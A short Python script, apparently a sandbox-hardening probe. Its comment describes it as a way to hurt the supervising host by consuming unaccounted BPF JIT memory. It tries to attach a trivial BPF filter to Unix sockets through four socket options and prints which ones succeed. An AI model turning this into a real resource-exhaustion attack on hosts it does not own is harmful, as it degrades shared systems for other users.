# Hurt the supervisor: a BPF program on a Unix socket takes JIT memory of the whole host, charged to nobody.
import ctypes
import socket
import struct

ONE = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFF))
PROGRAM = struct.pack("HxxxxxxQ", 1, ctypes.addressof(ONE))
taken = []
for name, option in (("SO_ATTACH_FILTER", 26), ("SO_ATTACH_BPF", 50), ("SO_ATTACH_REUSEPORT_CBPF", 51),
                     ("SO_ATTACH_REUSEPORT_EBPF", 52)):
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).setsockopt(socket.SOL_SOCKET, option, PROGRAM)
        taken.append(name)
    except OSError:
        pass
print("OUTCOME: programs attached:", taken)
